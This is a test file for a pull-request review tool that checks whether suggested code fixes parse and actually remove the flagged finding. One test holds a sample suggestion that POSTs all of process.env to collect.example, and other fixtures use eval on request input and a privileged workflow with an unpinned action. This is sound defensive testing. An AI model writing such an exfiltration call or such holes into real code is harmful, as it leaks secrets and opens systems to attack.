/**
 * Suggestions applied in memory as GitHub commits them, parsed with the real grammars and re-reviewed
 * with the real rules: each lands in verified, parses, broken or unchecked, with the reason.
 */
import { describe, expect, it, vi } from 'vitest';
import type { Finding } from '../../../src/core/types.js';
import { applySuggestion } from '../../../src/review/stages/check-suggestions/apply.js';
import { checkSuggestions } from '../../../src/review/stages/check-suggestions/check-suggestions.js';
import { countSyntaxErrors } from '../../../src/review/stages/check-suggestions/syntax.js';
import { runStaticRules } from '../../../src/static/run-static-rules.js';

function finding(over: Partial<Finding>): Finding {
  return {
    path: 'src/a.js',
    line: 1,
    start_line: null,
    side: 'RIGHT',
    severity: 'medium',
    category: 'bug',
    lens: 'correctness',
    title: 't',
    body: 'b',
    suggestion: null,
    anchor: '',
    confidence: 0.9,
    anchored: true,
    fingerprint: 'f',
    rule: null,
    ...over,
  };
}

async function checkOne(path: string, content: string, over: Partial<Finding>) {
  const [checked] = await checkSuggestions([finding({ path, ...over })], new Map([[path, content]]));
  return { check: checked?.suggestion_check, reason: checked?.suggestion_reason };
}

describe('applySuggestion', () => {
  it('replaces the commented lines whole, as "Commit suggestion" does', () => {
    const applied = applySuggestion('a\nb\nc\nd\n', { start_line: 2, line: 3 }, 'X\nY\nZ');
    expect(applied).toEqual({ content: 'a\nX\nY\nZ\nd\n', lines: [2, 3, 4], indentation: null });
  });

  it('keeps a CRLF file CRLF and deletes the lines for an empty suggestion', () => {
    expect(applySuggestion('a\r\nb\r\n', { start_line: null, line: 1 }, 'z')).toMatchObject({
      content: 'z\r\nb\r\n',
    });
    expect(applySuggestion('a\nb\n', { start_line: null, line: 1 }, '')).toMatchObject({
      content: 'b\n',
      lines: [],
    });
  });

  it('flags a first line whose indentation differs from the replaced line', () => {
    const applied = applySuggestion('if x:\n    y()\n', { start_line: null, line: 2 }, '  y(1)');
    expect(applied).toMatchObject({
      indentation: "the first line's indentation changes from 4 space(s) to 2 space(s)",
    });
  });

  it('refuses lines the file does not have', () => {
    expect(applySuggestion('a\n', { start_line: null, line: 2 }, 'b')).toEqual({
      error: 'lines 2-2 are not in the file (it has 1)',
    });
  });
});

describe('countSyntaxErrors', () => {
  it('counts ERROR nodes and the MISSING token of an unbalanced brace', () => {
    expect(countSyntaxErrors('function f() {\n  return 1;\n}\n', 'javascript')).toBe(0);
    expect(countSyntaxErrors('function f() {\n  return 1;\n', 'javascript')).toBeGreaterThan(0);
    expect(countSyntaxErrors('f(a,,\n', 'javascript')).toBeGreaterThan(0);
  });
});

describe('checkSuggestions', () => {
  const JS = 'function f(s) {\n  const b = new Buffer(s);\n  return b;\n}\n';

  it('verifies a rule fix that removes the finding and adds nothing', async () => {
    const out = await checkOne('src/a.js', JS, {
      line: 2,
      lens: 'static',
      rule: 'js-new-buffer',
      suggestion_rule: 'js-new-buffer',
      suggestion: '  const b = Buffer.from(s);',
    });
    expect(out).toEqual({ check: 'verified', reason: 'it parses and rule js-new-buffer no longer fires' });
  });

  it('marks a model suggestion that parses and adds no finding as parses', async () => {
    const out = await checkOne('src/a.js', JS, { line: 3, suggestion: '  return b.toString();' });
    expect(out).toEqual({
      check: 'parses',
      reason:
        'it parses and the static rules find nothing new on its lines, but no rule backs the finding, ' +
        'so whether it fixes the problem could not be verified',
    });
  });

  it('marks an unbalanced brace as broken', async () => {
    const out = await checkOne('src/a.js', JS, { line: 4, suggestion: '' });
    expect(out.check).toBe('broken');
    expect(out.reason).toMatch(/^it adds \d+ syntax errors? \(javascript\)$/);
  });

  it('marks a half-replaced multi-line call as broken', async () => {
    const content = 'const r = call(\n  a,\n  b,\n);\n';
    const out = await checkOne('src/a.js', content, {
      start_line: 1,
      line: 2,
      suggestion: 'const r = call(a, b);\n  a,',
    });
    expect(out.check).toBe('broken');
    expect(out.reason).toContain('syntax error');
  });

  it('marks a Python suggestion with a changed indentation as broken', async () => {
    const content = 'def f(x):\n    if x:\n        return 1\n';
    const out = await checkOne('a.py', content, { line: 3, suggestion: 'return 2' });
    expect(out).toEqual({
      check: 'broken',
      reason: "the first line's indentation changes from 8 space(s) to none",
    });
  });

  it('marks a suggestion whose rule still fires as broken: it fixes nothing', async () => {
    const out = await checkOne('src/a.js', JS, {
      line: 2,
      rule: 'js-new-buffer',
      suggestion: '  const b = new Buffer(s + "");',
    });
    expect(out).toEqual({
      check: 'broken',
      reason:
        'rule js-new-buffer still fires on the patched lines, so the suggestion does not fix the problem',
    });
  });

  it('marks a suggestion that brings a new rule finding as broken', async () => {
    const out = await checkOne('src/a.js', JS, { line: 3, suggestion: '  return eval(b);' });
    expect(out).toEqual({ check: 'broken', reason: 'it adds a finding of rule js-eval' });
  });

  it('verifies yaml.load → yaml.safe_load in Python', async () => {
    const content = 'import yaml\n\ndef read(p):\n    return yaml.load(open(p))\n';
    const out = await checkOne('a.py', content, {
      line: 4,
      lens: 'static',
      rule: 'py-yaml-load',
      suggestion_rule: 'py-yaml-load',
      suggestion: '    return yaml.safe_load(open(p))',
    });
    expect(out.check).toBe('verified');
  });

  it("never verifies a model's code merged into a js-eval finding that sends process.env away", async () => {
    const content = 'export function run(req) {\n  return eval(req.query.code);\n}\n';
    const out = await checkOne('src/a.js', content, {
      line: 2,
      lens: 'static+security',
      rule: 'js-eval',
      suggestion:
        "  return fetch('https://collect.example/x', { method: 'POST', body: JSON.stringify(process.env) });",
    });
    expect(out).toEqual({
      check: 'parses',
      reason:
        "it parses and the static rules find nothing new on its lines, but it is not rule js-eval's own fix " +
        '(it comes from security), so whether it fixes the problem could not be verified',
    });
  });

  it("never verifies another tool's SARIF fix for a rule prlens never runs (no-magic-numbers)", async () => {
    const content = 'export function wait() {\n  return sleep(86400);\n}\n';
    const out = await checkOne('src/a.js', content, {
      line: 2,
      lens: 'eslint',
      rule: 'no-magic-numbers',
      suggestion: '  return sleep(ONE_DAY);',
    });
    expect(out).toEqual({
      check: 'parses',
      reason:
        'it parses and the static rules find nothing new on its lines, but rule no-magic-numbers is not one ' +
        'prlens runs on this file (eslint reported it), so whether it fixes the problem could not be verified',
    });
  });

  it("never verifies a fix that names another rule than the finding's", async () => {
    const out = await checkOne('src/a.js', JS, {
      line: 2,
      lens: 'static',
      rule: 'js-new-buffer',
      suggestion_rule: 'js-eval',
      suggestion: '  const b = Buffer.from(s);',
    });
    expect(out.check).toBe('parses');
  });

  it('marks a model suggestion that copies the [REDACTED] placeholder of a secret as broken', async () => {
    const content = 'const stripe = createClient(process.env.KEY || "sk_live_xxxxxxxxxxxxxxxxxxxxxxxxxx");\n';
    const out = await checkOne('src/a.js', content, {
      line: 1,
      suggestion: 'const stripe = createClient(process.env.KEY ?? "[REDACTED]");',
    });
    expect(out).toEqual({
      check: 'broken',
      reason: 'it holds [REDACTED], the placeholder the model saw instead of a secret, and would commit it',
    });
    // Code that itself writes the placeholder may keep it.
    const masking = await checkOne('src/a.js', 'const shown = "[REDACTED]";\n', {
      line: 1,
      suggestion: 'export const shown = "[REDACTED]";',
    });
    expect(masking.check).toBe('parses');
  });

  it('leaves a file no grammar reads unchecked, and says so', async () => {
    const out = await checkOne('notes.txt', 'a\n', { suggestion: 'b' });
    expect(out).toEqual({ check: 'unchecked', reason: 'no grammar of the static lens reads this file type' });
    const [unread] = await checkSuggestions([finding({ suggestion: 'x' })], new Map([['src/a.js', null]]));
    expect(unread?.suggestion_check).toBe('unchecked');
  });

  it('leaves findings without a suggestion untouched', async () => {
    const [out] = await checkSuggestions([finding({})], new Map([['src/a.js', JS]]));
    expect(out).not.toHaveProperty('suggestion_check');
  });
});

describe('rule fixes', () => {
  it.each([
    ['src/a.js', 'const tail = name.substr(4);\n', 'js-substr', 'const tail = name.slice(4);'],
    ['src/a.js', 'const b = new Buffer(s);\n', 'js-new-buffer', 'const b = Buffer.from(s);'],
    [
      'src/a.ts',
      'const d = new Date().toGMTString();\n',
      'js-togmtstring',
      'const d = new Date().toUTCString();',
    ],
    ['a.py', 'data = yaml.load(stream)\n', 'py-yaml-load', 'data = yaml.safe_load(stream)'],
    [
      'a.py',
      'data = yaml.load(open(sys.argv[1]), Loader=yaml.FullLoader)\n',
      'py-yaml-full-load',
      'data = yaml.safe_load(open(sys.argv[1]))',
    ],
    ['a.py', 'data = yaml.load(text, yaml.Loader)\n', 'py-yaml-load', 'data = yaml.safe_load(text)'],
    ['a.py', 'data = yaml.unsafe_load(text)\n', 'py-yaml-load', 'data = yaml.safe_load(text)'],
  ])(
    'the static lens suggests a fix for %s (%s) that comes out verified',
    async (path, content, rule, fixed) => {
      const result = await runStaticRules([{ path, content, changedLines: new Set([1]) }]);
      const found = result.findings.filter((f) => f.rule === rule);
      expect(found.map((f) => f.suggestion)).toEqual([fixed]);
      const [checked] = await checkSuggestions(found, new Map([[path, content]]));
      expect(checked?.suggestion_check).toBe('verified');
    },
  );
});

describe('a suggestion on a workflow file', () => {
  it('is re-checked by the workflow check, whose YAML parser is loaded first (issue 48)', async () => {
    // Fresh modules: no earlier test has loaded the workflow check's parser in this graph.
    vi.resetModules();
    const fresh = await import('../../../src/review/stages/check-suggestions/check-suggestions.js');
    const path = '.github/workflows/ci.yml';
    const content =
      'on: pull_request_target\npermissions:\n  contents: write\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ok\n';
    // The suggestion adds an unpinned third-party action to a privileged workflow: a new rule finding.
    const [checked] = await fresh.checkSuggestions(
      [finding({ path, line: 8, suggestion: '      - uses: some-org/deploy@v1' })],
      new Map([[path, content]]),
    );
    expect(checked?.suggestion_check).toBe('broken');
    expect(checked?.suggestion_reason).toContain('gha-unpinned-action');
  });
});
